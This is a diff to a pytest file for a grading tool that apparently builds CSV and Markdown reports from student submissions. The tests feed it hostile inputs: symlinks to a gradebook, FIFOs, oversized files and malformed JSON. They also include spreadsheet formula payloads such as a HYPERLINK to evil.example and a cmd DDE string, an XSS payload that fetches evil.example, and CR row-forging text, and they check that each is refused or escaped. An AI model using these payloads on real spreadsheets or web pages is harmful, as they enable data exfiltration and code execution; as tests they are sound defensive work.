@@ -150,7 +150,7 @@ def _run(tmp_path: Path, course: Path, capsys) -> tuple[int, list[dict], str]:
     capsys.readouterr()
     rc = practice_command([str(course), "-o", str(tmp_path / "r.csv")])
     err = capsys.readouterr().err
-    rows = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8-sig"))) if (tmp_path / "r.csv").exists() else []
+    rows = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8-sig", newline=""))) if (tmp_path / "r.csv").exists() else []
     return rc, rows, err
 
 
@@ -187,3 +187,144 @@ def test_decodelab_grade_prints_a_hostile_key_escaped(tmp_path, monkeypatch, cap
     err = capsys.readouterr().err
     assert "decodelab-course-eve.json" in err and "\\x1b[2K\\r" in err
     assert "\x1b" not in err and "\r" not in err, err
+
+
+def test_one_hostile_submission_never_breaks_the_report_nor_reaches_outside(tmp_path, monkeypatch, capsys):
+    """Everything a student may hand in at once, beside an honest student: a folder named like the
+    file, a file far over the size cap, hundreds of files, JSON tricks (duplicate keys, NaN, deep
+    nesting, not UTF-8, a BOM), a FIFO, links to the gradebook and to a file outside the course folder
+    (collect never makes them; a hand-made ``submitted/`` might), a hard link, a linked practice
+    folder and a linked student folder. The honest row is written, every bad file is named, nothing
+    outside ``<report>-files/`` is written and the gradebook is untouched."""
+    import os
+
+    course = tmp_path / "course"
+    _collected(course, "minji", _export(tmp_path, "minji", monkeypatch))
+    gradebook = course / "gradebook.db"
+    gradebook.write_bytes(b"SQLite format 3\x00 lecturer's grades")
+    outside = tmp_path / "outside.json"
+    outside.write_bytes(_hostile("eve"))  # valid and eve's: still only ever read as eve's own file
+    before = {p: p.read_bytes() for p in (gradebook, outside)}
+
+    d = course / "submitted" / "eve" / PRACTICE
+    (d / "decodelab-course-eve.json").mkdir(parents=True)  # a folder named like the file
+    (d / "decodelab-course-eve.json" / "decodelab-course-eve.json").write_bytes(_hostile("eve"))
+    for i in range(300):
+        _put(course, "eve", f"decodelab-course-eve-{i:03d}.json", _hostile("eve"))
+    big = _put(course, "mallory", "decodelab-course-mallory.json", b"")
+    os.truncate(big, 8 * 1024**3)  # 8 GiB, sparse: refused by its size, never read
+    _put(course, "dup", "decodelab-course-dup.json",
+         b'{"format": "decodelab-quiz-submission", "version": 1, "student_id": "dup", "student_id": "minji", "answers": {}}')
+    _put(course, "nan", "decodelab-course-nan.json", _hostile("nan").replace(b'"answers": {}', b'"answers": {"01-x": NaN}'))
+    _put(course, "deep", "decodelab-course-deep.json", _hostile("deep").replace(b'"answers": {}', b'"answers": {"01-x": ' + b"[" * 100000 + b"]" * 100000 + b"}"))
+    _put(course, "latin", "decodelab-course-latin.json", _hostile("latin", answers={"01-x": "é"}).decode().encode("latin-1"))
+    _put(course, "bom", "decodelab-course-bom.json", b"\xef\xbb\xbf" + _hostile("bom"))  # a BOM is fine
+    fifo_dir = course / "submitted" / "fifo" / PRACTICE
+    fifo_dir.mkdir(parents=True)
+    os.mkfifo(fifo_dir / "decodelab-course-fifo.json")  # reading it would hang the run
+    for student, target in (("gb", gradebook), ("out", outside)):
+        (course / "submitted" / student / PRACTICE).mkdir(parents=True)
+        (course / "submitted" / student / PRACTICE / f"decodelab-course-{student}.json").symlink_to(target)
+    (course / "submitted" / "hard" / PRACTICE).mkdir(parents=True)
+    os.link(outside, course / "submitted" / "hard" / PRACTICE / "decodelab-course-hard.json")  # eve's content
+    (course / "submitted" / "lnpractice").mkdir()
+    (course / "submitted" / "lnpractice" / PRACTICE).symlink_to(d)
+    (course / "submitted" / "lndir").symlink_to(course / "submitted" / "minji")
+
+    rc, rows, err = _run(tmp_path, course, capsys)
+    assert rc == 1
+    assert [r["student_id"] for r in rows] == ["bom", "minji"]
+    assert sorted(p.name for p in (tmp_path / "r-files").iterdir()) == [
+        "decodelab-course-bom.json", "decodelab-course-minji.json"]
+    refused = [line for line in err.splitlines() if "뺌:" in line]
+    for student, why in (("eve", "일반 파일이 아닙니다"), ("mallory", "파일이 너무 큽니다"), ("dup", "두 번 나옵니다"),
+                         ("nan", "NaN"), ("deep", "JSON"), ("latin", "UTF-8"), ("fifo", "일반 파일이 아닙니다"),
+                         ("gb", "심볼릭 링크"), ("out", "심볼릭 링크"), ("hard", "낸 사람 hard와 다릅니다")):
+        assert any(f"/{student}/{PRACTICE}/decodelab-course-{student}.json: " in line and why in line
+                   for line in refused), (student, err)
+    assert sum(f"/eve/{PRACTICE}/decodelab-course-eve-" in line for line in refused) == 300
+    assert not any("lnpractice" in line or "lndir" in line for line in rows for line in line.values())
+    assert {p: p.read_bytes() for p in before} == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
+        ["answers-minji", "course", "home-minji", "outside.json", "r-files", "r.csv"]
+        + [p.name for p in tmp_path.glob("r-*.md")])
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"클릭")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1", "\x00=1+1", "설명\r=1+1", "설명\n=1+1", "설명\r\n=1+1"]
+"""Cell starts a spreadsheet reads as a formula: OWASP's CSV Injection list (=, +, -, @, tab, CR) and
+ASVS 5.0 requirement 1.2.10 (the same and the NUL character); and a formula after a line break
+inside the text, which must stay inside its quoted cell instead of starting a row of its own."""
+
+
+def test_formulas_in_every_free_text_field_stay_text_in_the_report(tmp_path, capsys):
+    """A student writes a formula into every field of their file that the report shows as text (short
+    answers, written answers, a prediction or a task value given as text, the revealed value): each
+    such cell of the real report.csv starts with ``'`` (a spreadsheet shows it as text)."""
+    from decodelab.assess.exercises import exercise_kind, load_exercises
+    from decodelab.assess.quiz import load_quizzes
+
+    shorts = [q.id for q in load_quizzes() if q.kind == "short"]
+    ex = load_exercises()
+    course = tmp_path / "course"
+    for i, payload in enumerate(FORMULAS):
+        student = f"s{i}"
+        exercises = {}
+        for eid, e in ex.items():
+            kind = exercise_kind(e)
+            exercises[eid] = ({"kind": "prediction", "response": payload, "revealed": payload} if kind == "prediction"
+                              else {"kind": "written" if kind == "written" else "task", "response": payload})
+        _put(course, student, f"decodelab-course-{student}.json",
+             _hostile(student, answers={q: payload for q in shorts}, exercises=exercises))
+    rc, rows, err = _run(tmp_path, course, capsys)
+    assert rc == 0, err
+    assert len(rows) == len(FORMULAS)
+    for row, payload in zip(rows, FORMULAS):
+        texts = {h: v for h, v in row.items() if payload in v}
+        assert len(texts) == len(shorts) + sum(1 + (exercise_kind(e) == "prediction") for e in ex.values()), row
+        bad = {h: v for h, v in texts.items() if v != ("'" + payload if payload[:1] in "=+-@\t\r\x00" else payload)}
+        assert not bad, bad
+        assert not [v for v in row.values() if v.startswith(tuple("=+-@\t\r\x00"))], row
+
+
+def test_student_text_never_lands_in_the_rubric_or_predictions_file(tmp_path, capsys):
+    """HTML or Markdown in a student's answers (a script, an image that calls home, a link, a heading
+    that fakes a section) never reaches ``-rubric.md`` / ``-predictions.md``, which the lecturer opens
+    in a Markdown viewer: those files hold the course's own text and counts and medians only."""
+    from decodelab.assess.exercises import exercise_kind, load_exercises
+
+    payload = '<img src=x onerror=alert(1)><script>fetch("//evil.example")</script>\n# 가짜 제목 [링크](javascript:alert(1))'
+    course = tmp_path / "course"
+    exercises = {}
+    for eid, e in load_exercises().items():
+        kind = exercise_kind(e)
+        exercises[eid] = ({"kind": "prediction", "response": payload, "revealed": payload} if kind == "prediction"
+                          else {"kind": "written" if kind == "written" else "task", "response": payload})
+    _put(course, "eve", "decodelab-course-eve.json", _hostile("eve", exercises=exercises))
+    rc, rows, err = _run(tmp_path, course, capsys)
+    assert rc == 0 and [r["student_id"] for r in rows] == ["eve"], err
+    mds = {p.name: p.read_text(encoding="utf-8") for p in tmp_path.glob("r-*.md")}
+    assert sorted(mds) == ["r-predictions.md", "r-rubric.md"]
+    for text in mds.values():
+        assert "<" not in text and "evil" not in text and "javascript" not in text and "가짜" not in text
+
+
+def test_a_carriage_return_in_an_answer_cannot_forge_a_row(tmp_path, capsys):
+    """A written answer ``"...\\rminji,course,..."``: Python's csv writer with ``lineterminator="\\n"``
+    left a field holding a lone CR unquoted, and a spreadsheet (or any CSV reader) starts a new row
+    at that CR, here a row named minji with full marks, or one whose first cell is a live formula."""
+    from decodelab.assess.exercises import exercise_kind, load_exercises
+
+    written = next(eid for eid, e in load_exercises().items() if exercise_kind(e) == "written")
+    course = tmp_path / "course"
+    _put(course, "minji", "decodelab-course-minji.json", _hostile("minji"))
+    for i, forged in enumerate(["좋은 답\rminji,course,forged.json,,100,100", "\r=HYPERLINK(\"http://evil.example\")"]):
+        _put(course, f"eve{i}", f"decodelab-course-eve{i}.json",
+             _hostile(f"eve{i}", exercises={written: {"kind": "written", "response": forged}}))
+    rc, rows, err = _run(tmp_path, course, capsys)
+    assert rc == 0, err
+    assert [r["student_id"] for r in rows] == ["eve0", "eve1", "minji"]
+    assert rows[0][f"{written} [서술]"] == "좋은 답\rminji,course,forged.json,,100,100"
+    assert rows[1][f"{written} [서술]"] == "'\r=HYPERLINK(\"http://evil.example\")"
+    raw = (tmp_path / "r.csv").read_bytes()
+    assert raw.count(b"\r\n") == 4 and raw.count(b"\r") == 4 + 2  # 4 rows; the answers' CRs are inside quotes
